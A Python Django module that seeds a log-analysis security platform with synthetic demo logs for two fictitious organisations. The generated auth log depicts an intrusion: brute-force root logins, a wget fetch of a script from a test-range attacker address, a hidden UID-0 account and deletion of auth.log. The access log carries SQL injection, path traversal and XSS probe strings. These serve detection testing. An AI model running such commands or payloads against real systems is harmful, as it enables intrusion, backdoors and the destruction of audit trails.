"""Demo data of the log service, so that the review pages and the report are not empty after `make run`.

The demo provider (安澜网络安全技术有限公司) analyses two sources of the platform's portal host — its
auth log with a brute force → login → sudo → UID-0 account → log deletion chain in the small hours
of yesterday, and its nginx access log with an SQL injection and a path traversal — and has this
year's collection plan and a report (DOCX and PDF) of the last 30 days.  The demo enterprise has one
gateway with a few failed logins.  Hosts and accounts are fictitious, addresses are documentation
ranges (RFC 5737).  Idempotent (an organization whose demo source exists is left alone); the uploads
and the report are processed in-process at once rather than waiting for the worker.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from wangan.core.models import Job
from wangan.logs import services, tasks
from wangan.logs.models import AnalysisReport, IngestBatch, LogSource

PROVIDER, PROVIDER_USER = "安澜网络安全技术有限公司", "prov_engineer"
ENTERPRISE, ENTERPRISE_USER = "星河云帆科技有限公司", "ent_admin"
ATTACKER = "203.0.113.66"  # TEST-NET-3
SCANNER = "192.0.2.45"  # TEST-NET-1
OFFICE = "198.51.100.20"  # TEST-NET-2: the administrators' own address
TZ = ZoneInfo("Asia/Shanghai")  # the engine reads syslog times as China Standard Time
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def _syslog(at: datetime, host: str, rest: str) -> str:
    return f"{_MONTHS[at.month - 1]} {at.day:2d} {at:%H:%M:%S} {host} {rest}"


def _access(at: datetime, ip: str, request: str, status: int, size: int, agent: str = "Mozilla/5.0") -> str:
    stamp = f"{at.day:02d}/{_MONTHS[at.month - 1]}/{at:%Y:%H:%M:%S} +0800"
    return f'{ip} - - [{stamp}] "{request} HTTP/1.1" {status} {size} "-" "{agent}"'


def portal_auth_log(now: datetime) -> str:
    """Five quiet days of routine administration, then last night's intrusion on portal-01."""
    lines = []
    today = now.astimezone(TZ).replace(hour=0, minute=0, second=0, microsecond=0)
    for back in range(5, 0, -1):
        day = today - timedelta(days=back)
        lines += [
            _syslog(day + timedelta(hours=9, minutes=2), "portal-01",
                    f"sshd[{2100 + back}]: Accepted publickey for opsadmin from {OFFICE} port {50100 + back} ssh2"),
            _syslog(day + timedelta(hours=9, minutes=5), "portal-01",
                    "sudo:  opsadmin : TTY=pts/0 ; PWD=/home/opsadmin ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
            _syslog(day + timedelta(hours=12), "portal-01", f"CRON[{3100 + back}]: (root) CMD (/usr/local/bin/backup.sh)"),
        ]  # fmt: skip
    night = today - timedelta(days=1) + timedelta(hours=2, minutes=13)
    lines.append(_syslog(night - timedelta(minutes=40), "portal-01",
                         f"sshd[4001]: Failed password for opsadmin from {OFFICE} port 50999 ssh2"))  # fmt: skip
    for i in range(8):
        lines.append(_syslog(night + timedelta(seconds=2 * i), "portal-01",
                             f"sshd[{4100 + i}]: Failed password for root from {ATTACKER} port {41000 + i} ssh2"))  # fmt: skip
    lines += [
        _syslog(night + timedelta(seconds=40), "portal-01", f"sshd[4200]: Accepted password for root from {ATTACKER} port 41100 ssh2"),
        _syslog(night + timedelta(seconds=41), "portal-01",
                "sshd[4200]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
        _syslog(night + timedelta(minutes=2), "portal-01",
                f"sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget http://{ATTACKER}/k.sh"),
        _syslog(night + timedelta(minutes=3), "portal-01", "sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/bash"),
        _syslog(night + timedelta(minutes=4), "portal-01",
                "useradd[4301]: new user: name=sysbak, UID=0, GID=0, home=/home/sysbak, shell=/bin/bash"),
        _syslog(night + timedelta(minutes=6), "portal-01",
                "sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log"),
        _syslog(night + timedelta(hours=5), "portal-01", "kernel: Out of memory: Killed process 5120 (java) total-vm:8123456kB"),
    ]  # fmt: skip
    return "\n".join(lines) + "\n"


def portal_access_log(now: datetime) -> str:
    """A working day of the portal's nginx: customers, one scanner trying injections."""
    day = now.astimezone(TZ).replace(hour=10, minute=0, second=0, microsecond=0) - timedelta(days=1)
    lines = []
    for i in range(20):
        lines.append(
            _access(
                day + timedelta(minutes=7 * i),
                f"198.51.100.{30 + i % 5}",
                f"GET /policy/{100 + i}.html",
                200,
                5120 + i,
            )
        )
    lines += [
        _access(day + timedelta(hours=3), SCANNER, "GET /search?q=1%27%20OR%20%271%27%3D%271", 200, 812, "sqlmap/1.7"),
        _access(day + timedelta(hours=3, seconds=5), SCANNER, "GET /download?file=../../../../etc/passwd", 404, 162, "sqlmap/1.7"),
        _access(day + timedelta(hours=3, seconds=9), SCANNER, "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, 790,
                "sqlmap/1.7"),
        _access(day + timedelta(hours=4), "198.51.100.31", "POST /api/apply", 502, 166),
    ]  # fmt: skip
    return "\n".join(lines) + "\n"


def gateway_auth_log(now: datetime) -> str:
    day = now.astimezone(TZ).replace(hour=8, minute=30, second=0, microsecond=0) - timedelta(days=2)
    lines = [_syslog(day + timedelta(seconds=i), "gw-01", f"sshd[700]: Failed password for invalid user admin from 192.0.2.{80 + i} port 3322{i} ssh2")
             for i in range(3)]  # fmt: skip
    lines.append(
        _syslog(
            day + timedelta(minutes=30),
            "gw-01",
            f"sshd[701]: Accepted publickey for netops from {OFFICE} port 52000 ssh2",
        )
    )
    return "\n".join(lines) + "\n"


def _run_job(job_id: int | None, runner) -> None:
    """Run a queued log job here and now (its broker message, if any, then finds it done)."""
    if job_id and Job.objects.filter(pk=job_id, status__in=[Job.Status.PENDING, Job.Status.QUEUED]).exists():
        runner(job_id)


def _analyse(actor, source: LogSource, name: str, text: str) -> IngestBatch:
    batch = services.upload_receive(
        actor=actor, source=source, upload=SimpleUploadedFile(name, text.encode())
    )
    batch.scan.refresh_from_db()
    _run_job(batch.scan.job_id_ref, tasks.batch_process_task)
    batch.refresh_from_db()
    return batch


def _provider(actor, now: datetime) -> list[IngestBatch]:
    host = services.source_create(actor=actor, name="门户主机 portal-01", host="portal-01", type="linux_auth", criticality=5,
                                  description="中小企业公共服务平台门户云主机（演示）")  # fmt: skip
    web = services.source_create(actor=actor, name="门户网站 nginx", host="portal-01", type="nginx", criticality=4,
                                 description="门户网站访问日志（演示）")  # fmt: skip
    batches = [_analyse(actor, host, "portal-01-auth.log", portal_auth_log(now)),
               _analyse(actor, web, "portal-01-access.log", portal_access_log(now))]  # fmt: skip
    services.collection_plan_for_year(
        organization=actor.organization, year=timezone.localdate(now).year, actor=actor
    )
    today = timezone.localdate(now)
    report = services.report_request(actor=actor, period_start=today - timedelta(days=30), period_end=today)
    _run_job(AnalysisReport.objects.get(pk=report.pk).job_id_ref, tasks.report_generate_task)
    return batches


def _enterprise(actor, now: datetime) -> list[IngestBatch]:
    gw = services.source_create(actor=actor, name="办公网关 gw-01", host="gw-01", type="linux_auth", criticality=3,
                                description="办公网出口网关（演示）")  # fmt: skip
    return [_analyse(actor, gw, "gw-01-auth.log", gateway_auth_log(now))]


def demo_load() -> str:
    """Create the demo sources, uploads and report where they are missing; a summary, or "" if nothing was done."""
    users = get_user_model().objects.select_related("organization")
    now = timezone.now()
    batches: list[IngestBatch] = []
    for org_name, username, first_source, load in ((PROVIDER, PROVIDER_USER, "门户主机 portal-01", _provider),
                                                   (ENTERPRISE, ENTERPRISE_USER, "办公网关 gw-01", _enterprise)):  # fmt: skip
        actor = users.filter(username=username, organization__name=org_name, is_active=True).first()
        if (
            actor is None
            or LogSource.objects.filter(organization=actor.organization, name=first_source).exists()
        ):
            continue
        batches += load(actor, now)
    if not batches:
        return ""
    scans = [
        b.scan for b in IngestBatch.objects.filter(pk__in=[b.pk for b in batches]).select_related("scan")
    ]
    return (f"{len(batches)} log uploads analysed: {sum(b.accepted for b in batches)} events, "
            f"{sum(s.alert_count for s in scans)} alerts, {sum(s.chain_count for s in scans)} attack chains")  # fmt: skip
